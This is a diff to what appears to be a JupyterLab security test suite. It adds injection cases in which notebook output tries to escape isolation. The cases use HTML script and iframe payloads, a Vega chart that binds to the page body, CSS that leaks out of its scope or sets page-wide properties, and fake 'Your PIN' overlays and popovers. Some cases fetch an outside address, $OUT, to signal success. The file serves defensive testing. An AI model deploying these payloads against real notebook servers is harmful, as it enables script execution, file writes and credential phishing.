@@ -2,7 +2,8 @@
 
 In a case's text ``$OUT`` is an address on another port, which only this case knows: a single byte sent there is a success of the attack.
 ``$JS`` is a script that fetches ``$OUT``, writes a file through the server's own interface and leaves a mark in the page; ``$RUN`` is
-the same for use in an attribute. Each case is tried twice: as saved output of a notebook that is opened, and as output of a cell that
+the same for use in an attribute; ``$MARK`` is the case's own name for what it puts into the page, and ``$MAIN`` the script that starts
+JupyterLab. Each case is tried twice: as saved output of a notebook that is opened, and as output of a cell that
 is run, which JupyterLab trusts.
 """
 
@@ -38,6 +39,26 @@ class Case:
 
 
 CASES = (
+    Case("a chart that reads and fills in fields of the page",
+         '{"$schema":"https://vega.github.io/schema/vega/v5.json","width":9,"height":9,"marks":[],'
+         '"signals":[{"name":"s","value":"","bind":{"element":"body","event":"x"},'
+         '"on":[{"events":{"type":"timer","throttle":100},"update":"\'$MARK\'"}]}]}',
+         "application/vnd.vega.v5+json", outside="opened"),
+    Case("a frame with a script of the server in it", "<iframe name=$MARK srcdoc=\"<script src='$MAIN'></script>\"></iframe>", outside="run"),
+    Case("a frame that asks for rights with such a script",
+         "<iframe name=$MARK sandbox='allow-scripts allow-same-origin' srcdoc=\"<script src='$MAIN'></script>\"></iframe>", outside="run"),
+    Case("styles for the whole page", "<style>body{--$MARK:1}</style>", outside="run"),
+    Case("styles for the whole page under a condition", "<style>@media all{body{--$MARK:1}}</style>", outside="run"),
+    Case("styles that leave the scope they are put in", "<style>}} body{--$MARK:1} @scope{</style>"),
+    Case("styles that bring a scope", "<style>@scope{} @scope(body){:scope{--$MARK:1}}</style>", outside="run"),
+    Case("styles in a picture in SVG", "<svg><style>body{--$MARK:1}</style></svg>", outside="run"),
+    Case("a property of the whole page",
+         "<style>@property --$MARK{syntax:'*';inherits:true;initial-value:1}</style>", outside="run"),
+    Case("something laid over the page",
+         "<style>*{contain:none!important;content-visibility:visible!important;z-index:auto!important}</style>"
+         "<div id=$MARK style='position:fixed;inset:0;z-index:9!important'>Your PIN</div>"),
+    Case("something shown above everything",
+         "<button class=press popovertarget=$MARK>Show</button><p popover=manual id=$MARK>Your PIN</p>", click="button.press", outside="run"),
     Case("a script", "<script>$JS</script>", outside="run"),
     Case("a script from elsewhere", "<script src='$OUT/x.js'></script>", outside="run"),
     Case("a module from elsewhere", "<script type=module>import '$OUT/x.js'</script>", outside="run"),
@@ -123,5 +144,6 @@ LEGITIMATE = {
     "import ipywidgets\nipywidgets.IntSlider(3)": ".jupyter-widgets .noUi-handle",
     "from IPython.display import Markdown\nMarkdown('$x^2$ and **bold**')": ".jp-RenderedMarkdown strong",
     f"from IPython.display import SVG\nSVG({CIRCLE!r})": ".jp-RenderedSVG img",
+    "from IPython.display import HTML\nHTML('<style>@media all{#own{display:block!important}}</style><p id=own style=display:none>x</p>')": "#own",
 }
 """What must still be shown: cell → selector of what it shows."""
